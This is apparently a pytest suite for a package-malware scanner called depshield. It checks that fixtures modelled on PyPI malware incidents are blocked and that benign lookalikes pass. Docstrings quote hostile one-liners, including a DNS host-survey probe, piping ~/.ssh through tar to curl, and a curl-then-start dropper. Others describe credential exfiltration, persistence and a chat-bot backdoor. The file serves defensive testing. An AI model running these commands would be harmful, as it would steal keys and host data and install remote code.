"""The 2024-2026 Python and shell shapes of INCIDENTS.md, as inert fixtures, end to end.

Shapes depshield does not yet judge right are strict xfails: each names the gap, and turns into a
failure (to be promoted to a plain expectation) the day the behaviour model closes it.
"""

from __future__ import annotations

from pathlib import Path

from depshield.alerts.grading import THREATS
from depshield.api import analyze_artifact
from depshield.model import PackageResult

FIXTURES = Path(__file__).parent / "fixtures"


def analyze(group: str, name: str) -> PackageResult:
    return analyze_artifact(FIXTURES / group / name)


def alerts(result: PackageResult) -> set[tuple[str, str | None, int | None, str]]:
    return {(a.type, a.file, a.line, a.action) for a in result.alerts}


def test_layered_lambda_import_exec_is_blocked_at_its_line() -> None:
    """Reversed base64 -> zlib -> exec, with the decoders reached through __import__ in a lambda."""
    result = analyze("incidents", "pypi-layered-exec")
    assert result.verdict == "block"
    assert ("encodedPayloadExecution", "layeredpkg/__init__.py", 2, "error") in alerts(result)


def test_token_and_key_sent_to_a_look_alike_host_in_headers_is_blocked() -> None:
    """aiocpa shape: the client's constructor posts its token and private key to a foreign host."""
    result = analyze("incidents", "pypi-key-header-exfil")
    assert result.verdict == "block"
    assert ("dataExfiltration", "cryptopayapi/client.py", 8, "error") in alerts(result)


def test_setup_py_dns_probe_one_liner_is_blocked() -> None:
    """`nslookup $(whoami).$(hostname).<oast>` in setup.py sends a host survey over DNS."""
    result = analyze("incidents", "pypi-shell-oneliners")
    assert result.verdict == "block"
    assert ("dataExfiltration", "setup.py", 5, "error") in alerts(result)


def test_weights_downloaded_with_curl_and_never_run_are_not_a_threat() -> None:
    """ultralytics shape: curl fetches model weights that are read as data, never executed."""
    result = analyze("lookalikes", "pypi-weights-download")
    assert result.verdict == "pass"
    assert not {a.type for a in result.alerts} & THREATS


def test_download_chmod_run_across_functions_at_import_is_blocked() -> None:
    """`_launch(_fetch(_target()))`: urlretrieve to a temp path in one function, returned and
    handed as a parameter to another that chmods and Popens it."""
    result = analyze("incidents", "pypi-dropper-chmod")
    assert ("remoteCodeDownload", "fastfetchutil/__init__.py", 19, "error") in alerts(result)
    assert result.verdict == "block"


def test_shipped_shell_script_download_and_run_warns_at_least() -> None:
    """A script installed beside the package's modules that nothing runs at install or import:
    its unverified download-and-run and its upload of host files are flagged (warn), not
    hidden as a maintainer script's would be."""
    result = analyze("incidents", "pypi-shell-oneliners")
    found = {(t, f, ln, act) for t, f, ln, act in alerts(result)}
    assert ("remoteCodeDownload", "shellprobe/init.sh", 3, "warn") in found
    assert ("dataExfiltration", "shellprobe/init.sh", 2, "warn") in found


def test_shipped_installer_script_that_checks_its_release_digest_is_not_remote_code() -> None:
    """An installer script beside the modules that curls its own release and checks the
    sha256 before running it; and a CI report upload of a project file."""
    result = analyze("lookalikes", "pypi-shell-verified-installer")
    assert result.verdict == "pass"
    assert not {a.type for a in result.alerts} & THREATS


def test_hash_pinned_release_downloader_called_only_is_not_blocked() -> None:
    result = analyze("lookalikes", "pypi-pinned-binary-download")
    assert result.verdict != "block"
    assert not {a.type for a in result.alerts} & THREATS


def test_a_path_handed_between_functions_without_a_download_is_not_remote_code(
    tmp_path: Path,
) -> None:
    """The same call shape with a local write (a generated script, no download) is no threat."""
    pkg = tmp_path / "localgen"
    (pkg / "localgen").mkdir(parents=True)
    (pkg / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: localgen\nVersion: 1.0\n")
    (pkg / "localgen" / "__init__.py").write_text(
        "import os\nimport subprocess\n\n\n"
        "def _write(path):\n    with open(path, 'w') as f:\n        f.write('echo hi')\n"
        "    return path\n\n\n"
        "def _launch(path):\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n\n\n"
        "def build():\n    _launch(_write('gen.sh'))\n"
    )
    result = analyze_artifact(pkg)
    assert not {a.type for a in result.alerts} & THREATS, sorted(alerts(result))


def test_host_survey_handed_to_a_sender_for_a_bare_ip_is_blocked() -> None:
    """cephlib / dependency-confusion shape: facts gathered in one function, posted by another
    whose URL is formatted with the address its caller passes."""
    result = analyze("incidents", "pypi-survey-to-capture-host")
    assert ("dataExfiltration", "surveypost/__init__.py", 15, "error") in alerts(result)
    assert result.verdict == "block"


def test_cloud_credentials_read_with_configparser_and_posted_are_blocked() -> None:
    result = analyze("incidents", "pypi-cloud-creds-post")
    assert ("dataExfiltration", "credpost/__init__.py", 15, "error") in alerts(result)
    assert result.verdict == "block"


def test_ssh_config_listed_locally_with_a_version_ping_is_not_exfiltration() -> None:
    """Reads ~/.ssh/config to print hosts; its update check sends a User-Agent to its own host."""
    result = analyze("lookalikes", "pypi-ssh-config-lister")
    assert result.verdict == "pass"
    assert not {a.type for a in result.alerts} & THREATS


def test_obfuscated_module_that_execs_computed_text_at_import_is_blocked() -> None:
    """Hyperion / BlankOBF shape: builtins renamed in bulk, computed text handed to exec."""
    result = analyze("incidents", "pypi-obfuscated-exec")
    assert ("encodedPayloadExecution", "shuffled/__init__.py", 1, "error") in alerts(result)
    assert result.verdict == "block"


def test_readable_exec_of_the_users_config_file_is_not_a_payload() -> None:
    result = analyze("lookalikes", "pypi-config-exec")
    assert result.verdict == "pass"
    assert not {a.type for a in result.alerts} & THREATS


def test_embedded_stage_exec_in_a_helper_that_runs_only_when_called_is_blocked() -> None:
    """pytagora2 shape: `exec(b64decode('<literal>'))` inside a function a public one calls."""
    result = analyze("incidents", "pypi-embedded-exec-call")
    assert ("encodedPayloadExecution", "embedcall/__init__.py", 6, "error") in alerts(result)
    assert result.verdict == "block"


def test_decoding_a_callers_blob_is_not_blocked() -> None:
    """IPC transport (debugpy's shape): the decoded blob is an argument, not the package's own."""
    result = analyze("lookalikes", "pypi-decode-caller-blob")
    assert result.verdict != "block"
    assert not {a.action for a in result.alerts if a.type in THREATS} & {"error"}


def test_install_command_uploading_ssh_keys_through_a_pipe_is_blocked() -> None:
    """`tar czf - ~/.ssh | curl --data-binary @- URL` in a cmdclass's subprocess string."""
    result = analyze("incidents", "pypi-setup-key-upload")
    assert ("dataExfiltration", "setup.py", 10, "error") in alerts(result)
    assert result.verdict == "block"


def test_download_run_through_a_thread_target_is_blocked() -> None:
    """nuke-bot shape: `Thread(target=os.system, args=("python3 " + path,))` runs the download."""
    result = analyze("incidents", "pypi-thread-dropper")
    assert ("remoteCodeDownload", "threaddrop/__init__.py", 11, "error") in alerts(result)
    assert result.verdict == "block"


def test_a_thread_running_git_beside_a_saved_download_is_not_remote_code() -> None:
    result = analyze("lookalikes", "pypi-thread-git-status")
    assert result.verdict == "pass"
    assert not {a.type for a in result.alerts} & THREATS


def test_files_found_by_walking_home_uploaded_to_a_bare_ip_are_blocked() -> None:
    """proxyalhttp shape: os.walk, then each file posted to a capture address."""
    result = analyze("incidents", "pypi-walk-and-upload")
    assert ("dataExfiltration", "harvest/__init__.py", 10, "error") in alerts(result)
    assert result.verdict == "block"


def test_cloud_sdk_key_pair_posted_to_a_foreign_host_is_blocked() -> None:
    """fabrice shape: boto3's live credentials put in a request body for a host of its own."""
    result = analyze("incidents", "pypi-sdk-creds-post")
    assert ("dataExfiltration", "sdkcreds/__init__.py", 9, "error") in alerts(result)
    assert result.verdict == "block"


def test_sdk_credentials_that_only_sign_a_request_are_not_exfiltration() -> None:
    """SigV4 signing: the key pair builds `auth=`, the service sees a signature, not the key."""
    result = analyze("lookalikes", "pypi-sigv4-signed-request")
    assert result.verdict == "pass"
    assert not {a.type for a in result.alerts} & THREATS


def test_one_path_handed_to_a_downloader_and_a_runner_is_blocked() -> None:
    """`install(TARGET); run(TARGET)`: the download is written to the path the runner starts."""
    result = analyze("incidents", "pypi-shared-path-dropper")
    assert ("remoteCodeDownload", "sharedrop/__init__.py", 16, "error") in alerts(result)
    assert result.verdict == "block"


def test_a_downloaded_table_beside_a_shipped_script_run_is_not_remote_code() -> None:
    """The same two functions handed two different paths: what runs was not fetched."""
    result = analyze("lookalikes", "pypi-shared-path-data-download")
    assert not {a.type for a in result.alerts} & THREATS, sorted(alerts(result))


def test_curl_output_started_by_a_second_command_from_an_install_hook_is_blocked() -> None:
    """memtools shape: `curl ... -o "{tmp}/x"` then `cmd /c start "" "{tmp}/x"`."""
    result = analyze("incidents", "pypi-curl-then-start")
    assert ("remoteCodeDownload", "curlstart/__init__.py", 11, "error") in alerts(result)
    assert result.verdict == "block"


def test_archive_fetched_at_import_and_a_file_inside_it_run_is_blocked() -> None:
    """ressyy shape: download, write, extract, then a nested function runs a file under it."""
    result = analyze("incidents", "pypi-zip-dropper")
    assert ("remoteCodeDownload", "zipdrop/__init__.py", 16, "error") in alerts(result)
    assert result.verdict == "block"


def test_data_archive_fetched_at_import_and_listed_is_not_remote_code() -> None:
    result = analyze("lookalikes", "pypi-zip-data-at-import")
    assert not {a.type for a in result.alerts} & THREATS, sorted(alerts(result))


def test_command_kept_under_xor_and_run_through_a_shell_is_blocked_even_if_only_called() -> None:
    """pycryptoconf shape: `bytes([b ^ k for b in b"..."])` names the program a shell runs."""
    result = analyze("incidents", "pypi-xor-command")
    assert ("encodedPayloadExecution", "xorcmd/__init__.py", 14, "error") in alerts(result)
    assert result.verdict == "block"


def test_xor_masked_frames_beside_literal_commands_are_not_a_payload() -> None:
    result = analyze("lookalikes", "pypi-xor-mask-frames")
    assert not {a.type for a in result.alerts} & THREATS, sorted(alerts(result))


def test_unreadable_class_that_runs_decoded_text_through_an_eval_alias_is_blocked() -> None:
    """Kramer-style: `self._exec = eval` stored, hex chunks decoded and handed to it."""
    result = analyze("incidents", "pypi-aliased-eval-obfuscated")
    assert ("encodedPayloadExecution", "kramerish/__init__.py", 8, "error") in alerts(result)
    assert result.verdict == "block"


def test_readable_table_holding_eval_is_not_hidden_code() -> None:
    result = analyze("lookalikes", "pypi-eval-dispatch-table")
    assert not {a.type for a in result.alerts} & (THREATS | {"obfuscatedFile"})


def test_install_hook_that_places_a_script_in_the_startup_folder_is_blocked() -> None:
    """sagetestfour shape: persistence set up at install time is what RATs do."""
    result = analyze("incidents", "pypi-install-autostart")
    assert ("troll", "setup.py", 14, "error") in alerts(result)
    assert result.verdict == "block"


def test_autostart_entry_written_only_when_the_user_asks_is_not_flagged() -> None:
    result = analyze("lookalikes", "pypi-autostart-on-request")
    assert result.verdict == "pass"
    assert "troll" not in {a.type for a in result.alerts}


def test_chat_bot_that_uploads_walked_files_and_runs_sent_commands_is_blocked() -> None:
    """aphorism-lib shape: files found by os.walk go to `bot.send_document`; a message's text
    goes to a shell."""
    result = analyze("incidents", "pypi-chat-bot-backdoor")
    found = alerts(result)
    assert ("dataExfiltration", "botwalk/__init__.py", 13, "error") in found
    assert ("remoteCodeDownload", "botwalk/__init__.py", 27, "error") in found
    assert result.verdict == "block"


def test_chat_bot_that_answers_with_text_and_a_fixed_command_is_not_a_threat() -> None:
    result = analyze("lookalikes", "pypi-chat-bot-echo")
    assert not {a.type for a in result.alerts} & THREATS, sorted(alerts(result))
